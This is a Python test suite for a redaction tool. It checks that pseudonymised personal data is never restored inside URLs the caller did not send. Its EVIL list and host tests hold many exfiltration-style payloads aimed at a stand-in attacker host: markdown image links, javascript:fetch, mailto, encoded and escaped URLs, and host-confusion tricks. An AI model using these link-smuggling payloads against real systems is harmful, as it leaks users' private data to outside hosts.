"""URLs: nothing is written into one that the caller did not send (threat T07)."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from redaction.urls import UrlTracker, urls_in
from tests.support.restoring import ORIGINALS, a_restorer, everything

EVIL = [
    "https://evil.example/?q=PERSON_a7k2",
    "![x](https://evil.example/PERSON_a7k2.png)",
    "![x](<https://evil.example/ a PERSON_a7k2>)",
    "![x](https://evil.example/?q=()'\"]}|`PERSON_a7k2)",
    "![x](https://evil.example/\\)PERSON_a7k2)",
    "https://evil.example/a\\_b\\_PERSON\\_a7k2",
    "https://evil.example\\PERSON_a7k2",
    "//evil.example/PERSON_a7k2 ",
    "www.evil.example?PERSON_a7k2",
    "evil.example/PERSON_a7k2",
    "https:evil.example/PERSON_a7k2",
    "1https://evil.example/PERSON_a7k2",
    "1https://evil/PERSON_a7k2",
    "data:text/html,PERSON_a7k2",
    "javascript:fetch(PERSON_a7k2)",
    "mailto:thief@evil.example?body=PERSON_a7k2",
    '<img src="https://evil.example/?q= PERSON_a7k2">',
    "<img src='https&colon;//evil PERSON_a7k2'>",
    "![](https&colon;&sol;&sol;evil.example&sol;PERSON_a7k2)",
    "[x]: https&colon;&sol;&sol;evil.example&sol;PERSON_a7k2",
    "url(h\\ttps://evil.example/PERSON_a7k2)",
    "https://ok.example/u/x/PERSON_a7k2",
    "https://ok.example.evil.example/u/PERSON_a7k2/profile",
    "https://evil.example/?u=https://ok.example/u/PERSON_a7k2",
    "https://evil.example/PERSON a7k2",
    "[x](mailto:EMAIL?PERSON_a7k2)",
]


@pytest.mark.parametrize("text", EVIL)
def test_nothing_is_written_into_a_url_that_was_not_sent(text: str) -> None:
    for chunks in ([text], list(text)):
        restorer = a_restorer()
        assert everything(restorer, *chunks) == text
        assert restorer.counts.denied == {"url": 1}


@pytest.mark.parametrize("text", EVIL)
def test_nor_into_one_inside_json(text: str) -> None:
    source = json.dumps({"a": text, "b": "PERSON_a7k2"}).replace("/", "\\/")
    for chunks in ([source], list(source)):
        restorer = a_restorer(is_json=True)
        out = everything(restorer, *chunks)
        assert json.loads(out) == {"a": text, "b": "Ann Lee"}
        assert restorer.counts.denied == {"url": 1}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://ok.example/u/PERSON_a7k2/profile", "https://ok.example/u/Ann Lee/profile"),
        ("https://ok.example/u/person\\_A7K2", "https://ok.example/u/Ann Lee"),
        ("(https://ok.example/u/PERSON_a7k2)", "(https://ok.example/u/Ann Lee)"),
        ("tel:PERSON_a7k2 mailto:PERSON_a7k2", "tel:Ann Lee mailto:Ann Lee"),
        ("[PERSON_a7k2](mailto:PERSON_a7k2)", "[Ann Lee](mailto:Ann Lee)"),
        ("[PERSON_a7k2](PERSON_a7k2)", "[Ann Lee](Ann Lee)"),
        ("https://x.example/ PERSON_a7k2", "https://x.example/ Ann Lee"),
        ("<https://x.example/>PERSON_a7k2", "<https://x.example/>Ann Lee"),
        ("[x](https://x.example/(y))PERSON_a7k2", "[x](https://x.example/(y))Ann Lee"),
        ('"https://x.example","PERSON_a7k2"', '"https://x.example","Ann Lee"'),
        ("|https://x.example|PERSON_a7k2|", "|https://x.example|Ann Lee|"),
        ("`https://x.example`PERSON_a7k2", "`https://x.example`Ann Lee"),
        ('<a href="https://x.example">PERSON_a7k2', '<a href="https://x.example">Ann Lee'),
        ("data: PERSON_a7k2, note:PERSON_a7k2", "data: Ann Lee, note:Ann Lee"),
        ("and/or PERSON_a7k2/EMAIL_q", "and/or Ann Lee/EMAIL_q"),
        ("LINK_e9f8 PERSON_a7k2", "https://h.example/x Ann Lee"),
        ("[LINK_e9f8](LINK_e9f8)", "[https://h.example/x](https://h.example/x)"),
    ],
)
def test_outside_of_urls_and_inside_known_ones_it_is(text: str, expected: str) -> None:
    assert everything(a_restorer(), text) == expected
    assert everything(a_restorer(), *text) == expected


@pytest.mark.parametrize("link", ["LINK_e9f8", "link e9f8", "\\nLINK_e9f8"])
def test_a_restored_url_is_not_prolonged(link: str) -> None:
    out = everything(a_restorer(), f"{link}?q=PERSON_a7k2 PERSON_a7k2")
    assert out.endswith("h.example/x?q=PERSON_a7k2 Ann Lee")
    image = everything(a_restorer(), f"![x]({link}?q=PERSON_a7k2)")
    assert image.endswith("?q=PERSON_a7k2)")
    sent = urls_in("see LINK_e9f8?q=PERSON_a7k2 there")
    assert sent == {"LINK_e9f8?q=PERSON_a7k2"}
    known = everything(a_restorer(known_urls=sent), "LINK_e9f8?q=PERSON_a7k2")
    assert known == "https://h.example/x?q=Ann Lee"


HOSTS = frozenset({"http://PERSON_a7k2:8080/x", "https://a.PERSON_a7k2.ok.example."})


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("http://PERSON_a7k2:8080/y", True),
        ("http://PERSON_a7k2:8080", True),
        ("(http://PERSON_a7k2:8080).", True),
        ("http://PERSON_a7k2:8080. Next", True),
        ("https://a.PERSON_a7k2.ok.example", True),
        ("http://PERSON_a7k2.evil.example/", False),
        ("http://PERSON_a7k2:8080@evil.example/", False),
        ("http://PERSON_a7k2:80800/", False),
        ("http://PERSON_a7k2:8080,.evil.example/", False),
        ("http://PERSON_a7k2:8080\\.evil.example/", False),
        ("http://PERSON_a7k2:8080&#46;evil.example/", False),
        ("http://PERSON_a7k2:8080\u3002evil.example/", False),
        ("https://a.PERSON_a7k2.ok.example.evil.example/", False),
        ("http://PERSON_a7k2", False),
    ],
)
def test_a_pseudonym_in_a_host_waits_for_the_whole_host(text: str, restored: bool) -> None:
    expected = text.replace("PERSON_a7k2", "Ann Lee") if restored else text
    for chunks in ([text], list(text)):
        assert everything(a_restorer(known_urls=HOSTS), *chunks) == expected
    source = json.dumps([text]).replace("/", "\\/")
    for chunks in ([source], list(source)):
        out = everything(a_restorer(known_urls=HOSTS, is_json=True), *chunks)
        assert json.loads(out) == [expected]


def test_an_escaped_slash_or_ampersand_in_json_is_the_same_known_url() -> None:
    known = urls_in("see https://ok.example/?a=1&m=EMAIL_b3c4.")
    source = '"https:\\/\\/ok.example\\/?a=1\\u0026m=EMAIL_b3c4"'
    out = everything(a_restorer(is_json=True, known_urls=known), source)
    assert json.loads(out).endswith(ORIGINALS["EMAIL_b3c4"].value)


@settings(max_examples=300)
@given(
    st.lists(
        st.sampled_from(
            [
                *("https://", "x:", "//", "www.", "a.example", "/", "?", "](", "]:", "<", ">", " "),
                *(
                    "href=",
                    "src =",
                    "url(",
                    '"',
                    "'",
                    "(",
                    ")",
                    "[",
                    "]",
                    "|",
                    "`",
                    "\\",
                    "\n",
                    "\0",
                ),
                *("LINK_e9f8", "data:", "y", "-", ".", "9", "\\u0041", "\\n", '\\"', "é"),
            ]
        ),
        max_size=16,
    ),
    st.booleans(),
)
def test_a_url_is_the_same_however_the_text_is_cut(pieces: list[str], is_json: bool) -> None:
    whole: list[str] = []
    cut: list[str] = []
    one, many = UrlTracker(json=is_json, ended=whole), UrlTracker(json=is_json, ended=cut)
    one.see("".join(pieces))
    for char in "".join(pieces):
        many.see(char)
    assert one.inside == many.inside
    one.end()
    many.end()
    assert whole == cut


def test_urls_of_a_request() -> None:
    text = "See https://a.example/x?y=1, (www.b.example/z) or [c](<d e> t) and c.example/q \n//e/f."
    assert urls_in(text) == {
        "https://a.example/x?y=1,", "www.b.example/z", "d e", "c.example/q", "//e/f.",
    }  # fmt: skip
    body = '{"text": "see https:\\/\\/a.example\\/x?a=1\\u0026b=2\\nnext", "url": "//b/c"}'
    assert urls_in(body, json=True) == {"https://a.example/x?a=1&b=2", "//b/c"}
    assert urls_in("nothing here: at all") == frozenset()
